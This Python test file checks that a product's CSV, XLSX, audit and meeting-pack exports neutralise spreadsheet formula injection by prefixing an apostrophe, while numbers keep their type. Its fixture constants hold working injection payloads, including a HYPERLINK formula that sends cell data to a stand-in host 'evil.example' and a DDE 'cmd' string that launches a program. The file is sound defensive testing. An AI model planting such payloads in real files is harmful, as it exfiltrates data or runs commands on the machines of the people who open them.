"""Issue #13, finding 2: text that a spreadsheet would run as a formula is written inert in every
CSV and XLSX the product writes (OWASP: a leading '), while numbers stay numbers."""
from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
from openpyxl import Workbook, load_workbook

from connectors.files.importer import import_file
from meeting.decisions import add_decision, week_of
from meeting.pack import to_xlsx as pack_xlsx
from meeting.report import week_report
from meeting.snapshots import take_snapshot
from store.audit import audit_csv, audit_frame, record_audit
from store.cells import inert, inert_frame, strings_as_text
from ui.tables import to_csv, to_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(A1:A9)"
MINUS = "-2+3"
DANGEROUS = [HYPERLINK, CMD, SUM, MINUS, "\t=1+1", "\r=1+1"]


def test_inert_prefixes_text_that_starts_a_formula():
    for text in DANGEROUS:
        assert inert(text) == "'" + text
    for safe in ("Acme", "", "a=b", " =1", "'=already quoted"):
        assert inert(safe) == safe
    for value in (-12.5, -3, 0, 7, True, None, dt.date(2026, 1, 2)):
        assert inert(value) is value


def test_inert_frame_touches_text_only():
    df = pd.DataFrame({"name": [HYPERLINK, "Ann"], "amount": [-1500.5, 20.0], "count": [-3, 4],
                       "mixed": [-7, SUM], "@col": ["x", None]})
    out = inert_frame(df)
    assert list(out["name"]) == ["'" + HYPERLINK, "Ann"]
    assert list(out["amount"]) == [-1500.5, 20.0] and out["amount"].dtype == df["amount"].dtype
    assert list(out["count"]) == [-3, 4] and out["count"].dtype == df["count"].dtype
    assert list(out["mixed"]) == [-7, "'" + SUM]
    assert list(out.columns) == ["name", "amount", "count", "mixed", "'@col"]
    assert df["name"][0] == HYPERLINK, "the caller's frame is not changed"


def test_strings_as_text_keeps_formula_like_strings_as_strings():
    ws = Workbook().active
    ws.append(["=1+1", "#N/A", 3])
    strings_as_text(ws)
    assert [c.data_type for c in ws[1]] == ["s", "s", "n"]


def _frame():
    return pd.DataFrame({"contact": DANGEROUS + ["Ann"], "amount": [-100.25, -1, 0, 5, 6, 7, -9.5]})


def test_ui_tables_csv_is_inert():
    rows = list(csv.reader(io.StringIO(to_csv(_frame()).decode("utf-8"), newline="")))
    assert rows[0] == ["contact", "amount"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in DANGEROUS] + ["Ann"]
    assert [float(r[1]) for r in rows[1:]] == [-100.25, -1, 0, 5, 6, 7, -9.5]


def test_ui_tables_xlsx_is_inert_and_numbers_stay_numbers():
    ws = load_workbook(io.BytesIO(to_xlsx(_frame(), "contacts"))).active
    cells = list(ws.iter_rows(min_row=2))
    xml = ["'" + t.replace("\r", "\n") for t in DANGEROUS]  # XML reads a CR back as LF
    assert [r[0].value for r in cells] == xml + ["Ann"]
    assert {r[0].data_type for r in cells} == {"s"}
    assert [r[1].value for r in cells] == [-100.25, -1, 0, 5, 6, 7, -9.5]
    assert {r[1].data_type for r in cells} == {"n"}


def test_audit_csv_and_frame_are_inert(engine):
    record_audit(engine, "@attacker", "decision.add", HYPERLINK, None, {"text": "x"})
    rows = list(csv.DictReader(io.StringIO(audit_csv(engine), newline="")))
    assert rows[0]["target"] == "'" + HYPERLINK and rows[0]["actor"] == "'@attacker"
    assert int(rows[0]["audit_id"]) >= 1
    frame = audit_frame(engine)
    assert frame.loc[0, "target"] == "'" + HYPERLINK and frame.loc[0, "actor"] == "'@attacker"


def _contacts_csv(mql_at: dt.datetime) -> bytes:
    when = mql_at.strftime("%Y-%m-%d %H:%M")
    created = (mql_at - dt.timedelta(days=1)).strftime("%Y-%m-%d %H:%M")
    head = ("Record ID,First Name,Last Name,Email,Lifecycle Stage,Original Source,"
            "Original Source Drill-Down 1,Original Source Drill-Down 2,Create Date,Region,"
            '"Date entered ""Marketing Qualified Lead (Lifecycle Stage Pipeline)""",Became a Lead Date')
    out = io.StringIO()
    out.write(head + "\r\n")
    w = csv.writer(out)
    w.writerow(["701", "Ann", "Smith", "ann@acme.test", "Marketing Qualified Lead", "Paid Social", "linkedin",
                "spring", created, "France", when, created])
    w.writerow(["702", HYPERLINK, "-Lee", "bob@acme.test", "Marketing Qualified Lead", "Paid Social", "linkedin",
                SUM, created, "France", when, created])
    return out.getvalue().encode("utf-8")


def test_meeting_pack_leads_from_a_hubspot_export_are_inert(engine):
    """The issue's reproduction: a HubSpot contacts export with a HYPERLINK first name, an on-demand
    snapshot, the pack: the "Leads not followed up" cells are strings starting with '."""
    now = dt.datetime(2026, 11, 18, 9, 0)  # a Wednesday: the on-demand snapshot reviews 16-18 Nov
    this_week = week_of(now.date())
    report = import_file(engine, "hubspot-contacts", _contacts_csv(dt.datetime(2026, 11, 16, 10, 0)),
                         "contacts.csv", actor="test")
    assert report.status == "success", report.message
    take_snapshot(engine, kind="on_demand", now=now)
    add_decision(engine, text=CMD, owner="@cso", actor="lead@acme.com", week_start=this_week)
    book = load_workbook(io.BytesIO(pack_xlsx(week_report(engine, this_week, today=now.date()))))
    leads = book["Leads not followed up"]
    header = [c.value for c in leads[1]]
    first, last, campaign = (header.index(c) + 1 for c in ("first_name", "last_name", "campaign"))
    row = next(r for r in leads.iter_rows(min_row=2) if r[0].value == "702")
    assert (row[first - 1].value, row[last - 1].value, row[campaign - 1].value) == (
        "'" + HYPERLINK, "'-Lee", "'" + SUM)
    for sheet in book.worksheets:
        for r in sheet.iter_rows():
            for cell in r:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and not cell.value.startswith(("=", "+", "-", "@")), \
                        (sheet.title, cell.coordinate, cell.value)
    decisions = book["Decisions"]
    texts = [c.value for r in decisions.iter_rows(min_row=2) for c in r]
    assert "'" + CMD in texts and "'@cso" in texts
    ages = [r[header.index("age_hours")].value for r in leads.iter_rows(min_row=2)]
    assert ages and all(isinstance(a, float) for a in ages), "numbers in the pack stay numbers"
